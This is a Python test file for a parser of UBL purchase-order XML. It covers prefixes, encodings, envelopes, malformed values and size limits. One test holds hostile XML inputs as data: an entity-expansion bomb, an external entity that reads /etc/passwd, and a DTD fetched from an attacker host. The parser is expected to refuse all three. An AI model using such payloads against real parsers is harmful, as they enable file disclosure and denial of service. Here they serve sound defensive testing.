"""UBL as others write it: prefixes, missing parts, envelopes, broken values, other documents."""

from __future__ import annotations

from decimal import Decimal

import pytest

from tests.support.ubl_orders import AGGREGATE, BASIC, DRESSES, ORDER, PLAIN, Dress
from tools.documents import read_order
from tools.documents.errors import (
    AmbiguousDocument,
    DamagedDocument,
    DocumentTooLarge,
    UnsafeDocument,
    WrongDocumentType,
)
from tools.documents.limits import MAX_ORDER_LINES, MAX_XML_BYTES
from tools.documents.ubl import read_ubl_order

READ = "order.xml"


@pytest.mark.parametrize("dress", DRESSES.values(), ids=DRESSES)
def test_prefixes_make_no_difference(dress: Dress):
    order = read_ubl_order(READ, dress.order())
    assert order == read_ubl_order(READ, PLAIN.order())
    assert (order.number, order.currency, order.buyer and order.buyer.name) == ("PO-1", "EUR", "ACME GmbH")
    assert [(line.item.seller_id, line.quantity, line.price) for line in order.lines] == [
        ("WID-1001", Decimal(10), Decimal("32.00"))
    ]


def test_an_order_with_nothing_but_its_root_is_read_as_empty():
    order = read_ubl_order(READ, PLAIN.document(""))
    assert (order.number, order.currency, order.lines, order.buyer, order.totals.payable) == ("", "", (), None, None)


@pytest.mark.parametrize(
    ("declared", "encoding"),
    [
        ("utf-8", "utf-8"),
        ("utf-8", "utf-8-sig"),
        ("utf-16", "utf-16"),
        ("utf-16", "utf-16-le"),
        ("UTF-16BE", "utf-16-be"),
        ("iso-8859-1", "iso-8859-1"),
        ("windows-1252", "cp1252"),
    ],
)
async def test_the_encoding_is_the_one_the_file_declares(declared: str, encoding: str):
    text = PLAIN.order().decode().replace("ACME GmbH", "Bäckerei Müller").replace("UTF-8", declared)
    order = (await read_order(READ, "application/xml", text.encode(encoding))).order
    assert order is not None
    assert order.buyer is not None
    assert order.buyer.name == "Bäckerei Müller"


async def test_blanks_before_the_xml_declaration_do_no_harm():
    assert (await read_order(READ, "", b"\r\n\n " + PLAIN.order())).order == read_ubl_order(READ, PLAIN.order())


async def test_a_byte_order_mark_and_a_comment_before_the_root_do_no_harm():
    xml = b"\xef\xbb\xbf" + PLAIN.order().replace(b"<Order", b"<!-- sent by our ERP -->\n<Order", 1)
    assert (await read_order(READ, "", xml)).order == read_ubl_order(READ, PLAIN.order())


def test_a_missing_currency_is_taken_from_the_amounts_when_they_agree():
    xml = PLAIN.order().replace(b"<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>", b"")
    assert read_ubl_order(READ, xml).currency == "EUR"


def test_every_currency_of_an_amount_is_noted():
    xml = PLAIN.order().replace(b'<cbc:PriceAmount currencyID="EUR"', b'<cbc:PriceAmount currencyID="USD"')
    assert read_ubl_order(READ, xml).currencies == ("EUR", "USD")


def test_a_second_tax_total_in_the_tax_currency_is_not_added():
    totals = "".join(
        PLAIN.a("TaxTotal", PLAIN.b("TaxAmount", amount, currencyID=currency))
        for amount, currency in (("60.80", "EUR"), ("690.00", "SEK"))
    )
    order = read_ubl_order(READ, PLAIN.document(PLAIN.b("DocumentCurrencyCode", "EUR") + totals))
    assert order.tax_amount == Decimal("60.80")
    assert order.currencies == ()


def test_what_has_no_place_in_an_order_is_kept_by_its_path():
    item = PLAIN.b("Name", "Widget") + PLAIN.b("BrandName", "Acme") + PLAIN.a("OriginCountry", PLAIN.b("Name", "Italy"))
    second = PLAIN.a("Delivery", PLAIN.b("Quantity", "4")) + PLAIN.a("Delivery", PLAIN.b("Quantity", "6"))
    line = PLAIN.a("OrderLine", PLAIN.a("LineItem", PLAIN.b("ID", "1") + second + PLAIN.a("Item", item)))
    order = read_ubl_order(READ, PLAIN.document(PLAIN.b("UUID", "u-1") + PLAIN.b("ID", "PO-1") + line))
    assert [(each.path, each.value) for each in order.other] == [
        ("UUID", "u-1"),
        ("OrderLine/LineItem/Delivery/Quantity", "4"),
        ("OrderLine/LineItem/Delivery/Quantity", "6"),
        ("OrderLine/LineItem/Item/BrandName", "Acme"),
        ("OrderLine/LineItem/Item/OriginCountry/Name", "Italy"),
    ]


@pytest.mark.parametrize("dress", DRESSES.values(), ids=DRESSES)
def test_an_order_that_says_the_usual_leaves_nothing_over(dress: Dress):
    assert read_ubl_order(READ, dress.order()).other == ()


def test_the_vat_number_is_taken_among_several_tax_schemes():
    schemes = "".join(
        PLAIN.a("PartyTaxScheme", PLAIN.b("CompanyID", number) + PLAIN.a("TaxScheme", PLAIN.b("ID", scheme)))
        for number, scheme in (("LOC-1", "LOC"), ("DE811907980", "VAT"))
    )
    order = read_ubl_order(READ, PLAIN.document(PLAIN.a("BuyerCustomerParty", PLAIN.a("Party", schemes))))
    assert order.buyer is not None
    assert (order.buyer.tax_id, order.buyer.tax_scheme) == ("DE811907980", "VAT")
    assert [str(each) for each in order.buyer.tax_numbers] == ["LOC:LOC-1", "VAT:DE811907980"]


def test_a_contact_beside_the_party_counts_when_the_party_has_none():
    contact = PLAIN.a("BuyerContact", PLAIN.b("ElectronicMail", "jane@acme.example"))
    party = PLAIN.a("Party", PLAIN.a("PartyName", PLAIN.b("Name", "ACME")))
    order = read_ubl_order(READ, PLAIN.document(PLAIN.a("BuyerCustomerParty", party + contact)))
    assert order.buyer is not None
    assert order.buyer.email == "jane@acme.example"


def test_a_price_for_a_hundred_is_the_price_of_one_exactly():
    line = PLAIN.a(
        "OrderLine",
        PLAIN.a(
            "LineItem",
            PLAIN.b("Quantity", "250", unitCode="MTR")
            + PLAIN.a("Price", PLAIN.b("PriceAmount", "1.15") + PLAIN.b("BaseQuantity", "100", unitCode="MTR")),
        ),
    )
    (read,) = read_ubl_order(READ, PLAIN.document(line)).lines
    assert read.unit_price == Decimal("0.0115")
    assert read.expected_amount == Decimal("2.875")
    assert (read.id, read.amount) == ("1", None)


@pytest.mark.parametrize("zone", ["", "Z", "+02:00"])
def test_a_date_and_a_time_may_have_a_zone(zone: str):
    head = PLAIN.b("IssueDate", f"2026-11-18{zone}") + PLAIN.b("IssueTime", f"14:15:20.500{zone}")
    order = read_ubl_order(READ, PLAIN.document(head))
    assert (str(order.issued_on), str(order.issued_time)) == ("2026-11-18", "14:15:20")


def test_an_order_in_a_peppol_envelope_is_read():
    inner = PLAIN.order().partition(b"?>")[2].decode()
    space = "http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader"

    def envelope(held: str) -> bytes:
        header = "<sbd:StandardBusinessDocumentHeader/>"
        root = "sbd:StandardBusinessDocument"
        return f"<{root} xmlns:sbd='{space}'>{header}{held}</{root}>".encode()

    assert read_ubl_order(READ, envelope(inner)).number == "PO-1"
    with pytest.raises(AmbiguousDocument, match="2 documents"):
        read_ubl_order(READ, envelope(inner * 2))


@pytest.mark.parametrize(
    "root", ["Invoice", "OrderResponse", "OrderChange", "OrderCancellation", "Catalogue", "DespatchAdvice"]
)
def test_another_ubl_document_is_named_for_what_it_is(root: str):
    with pytest.raises(WrongDocumentType, match=rf"it is a UBL {root}, not an Order"):
        read_ubl_order(READ, PLAIN.document(PLAIN.b("ID", "1"), root=root))


@pytest.mark.parametrize(
    "namespace",
    ["urn:oasis:names:specification:ubl:schema:xsd:Order-1.0", "https://example.org/order", AGGREGATE, BASIC],
)
def test_an_order_of_another_standard_is_not_taken_for_ubl_2(namespace: str):
    with pytest.raises(WrongDocumentType, match=r"not a UBL 2 Order|not an Order"):
        read_ubl_order(READ, PLAIN.document(PLAIN.b("ID", "1"), namespace=namespace))


def test_a_root_without_a_namespace_is_no_ubl():
    with pytest.raises(WrongDocumentType, match="root element 'Order'"):
        read_ubl_order(READ, b"<Order><ID>1</ID></Order>")


@pytest.mark.parametrize("text", ["12,50", "1e5", "NaN", "Infinity", "ten", "1 000", "9" * 16, "0." + "1" * 16])
def test_an_amount_that_is_no_number_is_named_not_guessed(text: str):
    xml = PLAIN.order().replace(b">32.00<", f">{text}<".encode())
    with pytest.raises(DamagedDocument, match=r"its Price/PriceAmount .* is not a number"):
        read_ubl_order(READ, xml)


@pytest.mark.parametrize("text", ["18.11.2026", "2026-02-30", "today", "2026-11"])
def test_a_date_that_is_none_is_named(text: str):
    with pytest.raises(DamagedDocument, match=r"its IssueDate .* is not a date"):
        read_ubl_order(READ, PLAIN.document(PLAIN.b("IssueDate", text)))


@pytest.mark.parametrize(
    "cut", [b"<Order", PLAIN.order()[:200], PLAIN.order() + b"<x>", b"<?xml version='1.0' encoding='klingon'?><Order/>"]
)
def test_xml_that_is_not_well_formed_is_damaged(cut: bytes):
    with pytest.raises(DamagedDocument, match="not well-formed"):
        read_ubl_order(READ, cut)


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE Order [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE Order [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Order SYSTEM "http://attacker.example/order.dtd">',
    ],
)
def test_entities_and_document_types_are_refused(declared: str):
    xml = PLAIN.order().decode().replace("<Order", declared + "<Order", 1)
    with pytest.raises(UnsafeDocument):
        read_ubl_order(READ, xml.encode())


def test_too_much_xml_and_too_many_lines_are_refused():
    with pytest.raises(DocumentTooLarge, match="bytes of XML"):
        read_ubl_order(READ, PLAIN.document(" " * MAX_XML_BYTES))
    with pytest.raises(DocumentTooLarge, match="lines"):
        read_ubl_order(READ, PLAIN.document(PLAIN.a("OrderLine", "") * (MAX_ORDER_LINES + 1)))


def test_elements_of_other_namespaces_are_left_alone():
    extension = f'<ext:UBLExtensions xmlns:ext="urn:x"><cbc:ID xmlns:cbc="{BASIC}">evil</cbc:ID></ext:UBLExtensions>'
    assert read_ubl_order(READ, PLAIN.document(extension + PLAIN.b("ID", "PO-2"))).number == "PO-2"
    assert ORDER in PLAIN.order().decode()
